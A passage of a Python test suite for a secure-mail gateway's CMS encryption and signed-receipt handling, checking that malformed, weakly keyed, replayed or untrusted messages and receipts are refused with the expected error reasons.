    assert_no_plaintext(error, SECRET)


def test_encrypted_twice(pki: Pki) -> None:
    """An envelope whose content is another envelope is malformed ("encrypted twice")."""
    inner = protected(pki)  # a whole protected message, itself an AuthEnvelopedData entity
    error = refusal(lambda: open_as(pki, sealed(inner, pki.ministry)))
    assert error.reason is Reason.MALFORMED


def test_protect_without_recipient(pki: Pki) -> None:
    """The sender never falls back to plaintext: no recipient certificate is not-for-us."""
    error = refusal(lambda: protect(ORIGINAL, pki.agency.signer, [], now=NOW))
    assert error.reason is Reason.NOT_FOR_US


def test_protect_to_weak_recipient_key(pki: Pki) -> None:
    """The sender refuses to encrypt to an RSA-1024 recipient certificate: weak-algorithm."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=1024)  # noqa: S505
    cert = issue_for_key(pki.ca, "SecureMail gateway weak.govt.nz", key.public_key(), now=NOW)
    error = refusal(lambda: protect(ORIGINAL, pki.agency.signer, [cert], now=NOW))
    assert error.reason is Reason.WEAK_ALGORITHM


# --- receipts (THREATS.md F, the CMS side) ----------------------------------------------------


def requesting(pki: Pki, content: bytes = ORIGINAL) -> tuple[bytes, ReceiptBasis]:
    """A protected message asking for a receipt (always as "same-id"), and the sender's basis."""
    sent = protect(
        content,
        pki.agency.signer,
        [pki.ministry.certificate],
        now=NOW,
        options=ProtectOptions(
            receipt_request=ReceiptRequest(b"same-id", ("gateway@agency.govt.nz",))
        ),
    )
    assert sent.receipt_basis is not None
    return sent.message, sent.receipt_basis


def test_receipt_replayed_onto_another_message(pki: Pki) -> None:
    """A genuine receipt for message 1 does not answer message 2: receipt-mismatch."""
    first, first_basis = requesting(pki)
    # same sender, same content identifier; only the Message-ID differs
    _, second_basis = requesting(pki, ORIGINAL.replace(b"<threats-1@", b"<threats-2@"))
    receipt = make_receipt(open_as(pki, first).signature, pki.ministry.signer, now=NOW)
    assert verify_receipt(receipt, first_basis, trust=pki.trust(), now=NOW)
    error = refusal(lambda: verify_receipt(receipt, second_basis, trust=pki.trust(), now=NOW))
    assert error.reason is Reason.RECEIPT_MISMATCH


def test_receipt_signed_by_untrusted_signer(pki: Pki) -> None:
    """A correctly bound receipt signed outside the federation is untrusted-signer."""
    message, basis = requesting(pki)
    outsider = issue(make_root_ca("Outsider CA", now=NOW), "outsider gateway", now=NOW)
    receipt = make_receipt(
        open_as(pki, message).signature,
        SignerIdentity(outsider.certificate, outsider.private_key),
        now=NOW,
    )
    error = refusal(lambda: verify_receipt(receipt, basis, trust=pki.trust(), now=NOW))
    assert error.reason is Reason.UNTRUSTED_SIGNER


def test_no_receipt_for_message_without_request(pki: Pki) -> None:
    """A message that asked for no receipt gets none: receipt-not-requested."""
    verified = open_as(pki, protected(pki))
    error = refusal(lambda: make_receipt(verified.signature, pki.ministry.signer, now=NOW))
    assert error.reason is Reason.RECEIPT_NOT_REQUESTED


def test_no_receipt_for_a_receipt(pki: Pki) -> None:
    """A receipt (which never requests one) cannot itself be receipted: receipt-not-requested."""
    message, _ = requesting(pki)
    receipt = make_receipt(open_as(pki, message).signature, pki.ministry.signer, now=NOW)
    _, receipt_signature = verify_signed_data(receipt)
    error = refusal(lambda: make_receipt(receipt_signature, pki.agency.signer, now=NOW))
    assert error.reason is Reason.RECEIPT_NOT_REQUESTED
